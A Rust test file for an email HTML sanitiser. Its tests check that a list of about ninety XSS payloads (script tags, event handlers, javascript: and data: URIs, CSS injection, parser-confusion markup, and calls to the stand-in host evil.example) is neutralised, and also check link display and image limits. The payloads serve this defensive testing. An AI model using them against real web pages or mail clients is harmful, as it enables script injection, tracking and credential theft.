use std::time::{Duration, Instant};

use super::*;

const GIF: &[u8] = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;";

/// The body of the document.
fn shown(html: &str) -> String {
    let mut pictures = Pictures::default();
    pictures.bring("<logo@mail>", GIF);
    pictures.bring("drawing@mail", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>");
    let document = of([html], &pictures).unwrap();
    document.strip_prefix(BEGIN).unwrap().strip_suffix(END).unwrap().to_owned()
}

/// Samples that ran a script, or asked for something, somewhere.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/x>alert(1)</SCRIPT >",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\n'alert(1)'>",
    "<img/src=x/onerror=alert(1)//>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img src='http://evil.example/track.gif'>",
    "<img srcset='http://evil.example/a 1x' src=http://evil.example/b>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=\"data:image/png;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img src=cid:drawing@mail>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<img alt='`><img src=x onerror=alert(1)>'>",
    "<body onload=alert(1) background=http://evil.example/b.png>x",
    "<div onmouseover=alert(1) ONCLICK='alert(1)' id=a class=b name=c>x</div>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg/><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<base href=http://evil.example/><a href=x>x</a>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import url(http://evil.example/x.css);*{background:url(http://evil.example/y)}</style>",
    "<form action=http://evil.example/><input name=password><button formaction=javascript:alert(1)>Go</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)></object>",
    "<embed src=http://evil.example/x.swf>",
    "<applet code=x></applet><frameset><frame src=javascript:alert(1)></frameset>",
    "<video src=http://evil.example/v onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1) autoplay>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=JaVaScRiPt&colon;alert(1)>x</a>",
    "<a href=vbscript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='https://evil.example/\"><script>alert(1)</script>'>x</a>",
    "<a href='https://evil.example/' target=_top ping=http://evil.example/p>x</a>",
    "<a href=x style='position:fixed;top:0;left:0;width:100%;height:100%'>x</a>",
    "<div style=\"background:url(http://evil.example/x)\">x</div>",
    "<div style=\"background-image:url('javascript:alert(1)')\">x</div>",
    "<div style=\"background:u\\72l(http://evil.example/x)\">x</div>",
    "<div style=\"background:ur/**/l(http://evil.example/x)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"width:exp/**/ression(alert(1))\">x</div>",
    "<div style=\"behavior:url(x.htc);-moz-binding:url(x.xml#x)\">x</div>",
    "<div style=\"color:red;background:image-set('http://evil.example/x' 1x)\">x</div>",
    "<div style=\"content:attr(x);color:var(--x, url(http://evil.example))\">x</div>",
    "<div style='color:red\"><script>alert(1)</script>'>x</div>",
    "<div style=\"font-family:'\"><img src=x onerror=alert(1)>'\">x</div>",
    "<table background=http://evil.example/x><td background=http://evil.example/y>x</table>",
    "<p lang='\"><script>alert(1)</script>' dir=\"x\" onx=y>x</p>",
    "<div a='\"' b=\"'<img src=x onerror=alert(1)>\">x</div>",
    "<div \"<img src=x onerror=alert(1)>\">x</div>",
    "<x onclick=alert(1) style=x>x</x>",
    "<<img src=x onerror=alert(1)//",
    "<img src=x onerror=alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<u title='&lt;script&gt;'>x</u>",
    "\u{0}<im\u{0}g src=x onerror=alert(1)>",
    "<a href='https://a.example'><table><td><a href='javascript:alert(1)'><img src=x onerror=alert(1)></a></table></a>",
];

/// Every tag and attribute of markup that is known to be well formed.
fn tags(html: &str) -> Vec<(String, Vec<String>)> {
    let mut found = Vec::new();
    for tag in html.split('<').skip(1) {
        let (inner, _) = tag.split_once('>').unwrap_or_else(|| panic!("an open tag in {html}"));
        let (name, mut rest) = inner.split_once(' ').unwrap_or((inner, ""));
        let mut attributes = Vec::new();
        while let Some((attribute, value)) = rest.split_once("=\"") {
            attributes.push(attribute.trim().to_owned());
            rest = value.split_once('"').unwrap_or_else(|| panic!("an open value in {html}")).1;
        }
        assert_eq!(rest.trim(), "", "{html}");
        found.push((name.trim_start_matches('/').to_owned(), attributes));
    }
    found
}

#[test]
fn nothing_hostile_is_left_of_any_sample() {
    let known: Vec<_> = writer::ATTRIBUTES.iter().copied().chain(["style", "src", "alt", "title"]).collect();
    for sample in HOSTILE {
        let first = writer::write(sample, &Pictures::default()).html;
        for html in [first, shown(sample), shown(&format!("<p>before {sample} after</p><b>end</b>"))] {
            for (name, attributes) in tags(&html) {
                assert!(writer::ELEMENTS.contains(&name.as_str()), "{sample}\n{html}");
                assert!(attributes.iter().all(|name| known.contains(&name.as_str())), "{sample}\n{html}");
            }
            let styles = html.split("style=\"").skip(1).map(|style| style.split('"').next().unwrap_or_default());
            for style in styles {
                for word in ["url", "expression", "position", "attr", "var", "image-set", "\\", "/*"] {
                    assert!(!style.contains(word), "{sample}\n{html}");
                }
            }
            assert!(!html.contains("src=\"") || html.contains("src=\"data:image/gif;base64,"), "{sample}\n{html}");
            assert!(!html.contains("href="), "{sample}\n{html}");
        }
    }
    assert!(HOSTILE.len() > 80);
}

#[test]
fn the_second_pass_would_do_without_the_first() {
    for sample in HOSTILE {
        let html = SECOND.clean(sample).to_string();
        for (name, attributes) in tags(&html) {
            assert!(writer::ELEMENTS.contains(&name.as_str()), "{sample}\n{html}");
            assert!(!attributes.iter().any(|name| name.starts_with("on") || name == "href"), "{sample}\n{html}");
        }
        assert!(!html.contains("src=\"") && !html.contains("url("), "{sample}\n{html}");
    }
}

#[test]
fn what_a_mail_looks_like_is_kept() {
    let html = "<html><head><title>x</title><style>p{color:red}</style></head><body bgcolor=\"#f4f4f4\">\
        <table width=600 align=center cellpadding=\"4\"><tr><td style=\"padding:8px; COLOR:#123456;font-family:'Segoe UI',Arial\">PO <b>450</b>\
        <td>&euro; 3 &lt; 4<tr><td colspan=2>End</table></body></html>";
    assert_eq!(
        shown(html),
        "<div bgcolor=\"#f4f4f4\"><table align=\"center\" cellpadding=\"4\" width=\"600\"><tbody><tr>\
         <td style=\"padding:8px;color:#123456;font-family:Segoe UI,Arial\">PO <b>450</b></td><td>€ 3 &lt; 4</td></tr>\
         <tr><td colspan=\"2\">End</td></tr></tbody></table></div>"
    );
    assert_eq!(
        shown("<p style='color:rgb(1, 2, 3);margin:-5px 0;display:none'>x"),
        "<p style=\"color:rgb(1, 2, 3);display:none\">x</p>"
    );
    assert_eq!(shown("a < b &amp; c <"), "a &lt; b &amp; c &lt;");
}

#[test]
fn a_link_says_where_it_leads() {
    assert_eq!(
        shown("<a href=\"https://evil.example/a?b=1&amp;c=2\">www.bank.example</a>"),
        "<u title=\"https://evil.example/a?b=1&amp;c=2\">www.bank.example</u> <small>[evil.example/a…]</small>"
    );
    let seen = |html: &str| shown(html).replace(|c| c == '"', "");
    assert_eq!(
        seen("<a href='https://kite.example/'>kite.example</a>"),
        "<u title=https://kite.example/>kite.example</u>"
    );
    assert_eq!(
        seen("<a href='https://bank.example@evil.example/'>x</a>"),
        "<u title=https://evil.example/>x</u> <small>[evil.example]</small>"
    );
    assert_eq!(
        seen("<a href='mailto:ada@kite.example?subject=x'>write</a>"),
        "<u title=ada@kite.example>write</u> <small>[ada@kite.example]</small>"
    );
    assert_eq!(
        seen("<a href=https://kite.example/t><img src=https://kite.example/t.gif></a>"),
        "<u title=https://kite.example/t></u>"
    );
    let long = shown(&format!("<a href='https://kite.example/{}'>x</a>", "y".repeat(5_000)));
    assert!(long.len() < 2_200 && long.contains("yyy…]"), "{long}");
    assert_eq!(shown("<a name=top>Top</a> <a href='#top'>up</a>"), "Top up");
}

#[test]
fn pictures_are_those_that_the_mail_brings() {
    let gif =
        format!("data:image/gif;base64,{}", base64::Engine::encode(&base64::engine::general_purpose::STANDARD, GIF));
    let expected = format!("<img src=\"{gif}\" alt=\"Logo\" width=\"20\">");
    assert_eq!(shown("<img src='cid:logo@mail' alt=Logo width=20>"), expected);
    assert_eq!(shown("<img src='CID:logo%40mail' alt=Logo width=20>"), expected);
    assert_eq!(shown(&format!("<img alt=Logo width=20 src='{gif}'>")), expected);
    assert_eq!(shown("<img src='https://evil.example/t.gif' width=1 height=1>x"), "x");
    assert_eq!(shown("<img src='https://evil.example/t.gif' alt='Kite & Co'>"), "[Kite &amp; Co]");
    assert_eq!(shown("<img src=cid:drawing@mail alt=Drawing>"), "[Drawing]");
}

#[test]
fn pictures_have_a_size_together() {
    let mut pictures = Pictures::default();
    let mut large = GIF.to_vec();
    large.resize(900 << 10, 0);
    pictures.bring("large", &large);
    let mut larger = GIF.to_vec();
    larger.resize(1 << 20, 0);
    pictures.bring("larger", &larger);
    let document = of(["<img src=cid:large>".repeat(100).as_str(), "<img src=cid:larger>"], &pictures).unwrap();
    assert_eq!(document.matches("<img").count(), 6);
}

#[test]
fn hostile_sizes_cost_little() {
    let many = |part: &str| part.repeat((4 << 20) / part.len());
    let formatted: String = (0..50_000).map(|n| format!("<b style=\"width:{n}px\">")).collect();
    for html in [
        many("<div>"),
        many("<p><b><table><td>"),
        many("<a href=https://x.example><table><td>"),
        many("<"),
        many("<a \""),
        many("</p></b>"),
        many("<!--"),
        many("<svg>"),
        many("<p>x"),
        many("<li style=\"color:red;color:red\"><ul>"),
        many("&amp;"),
        many(">"),
        many("<img alt=x>"),
        format!("{formatted}{}", many("</p><p>x")),
        format!("<img src=\"data:image/gif;base64,{}\">", many("A")),
    ] {
        let started = Instant::now();
        let document = of([html.as_str()], &Pictures::default()).unwrap();
        let limit = Duration::from_secs(if cfg!(debug_assertions) { 20 } else { 4 });
        eprintln!("{:?} {} {}", started.elapsed(), document.len(), &html[..20]);
        assert!(started.elapsed() < limit, "{:?} for {}", started.elapsed(), &html[..20]);
        assert!(document.len() < 32 << 20, "{} bytes of {}", document.len(), &html[..20]);
    }
}

#[test]
fn a_mail_that_is_too_long_says_that_it_goes_on() {
    let document = of(["<br>".repeat(60_000).as_str()], &Pictures::default()).unwrap();
    assert!(document.contains("The mail goes on") && document.matches("<br>").count() == writer::MOST);
    assert!(!of(["<br>"], &Pictures::default()).unwrap().contains("goes on"));
}
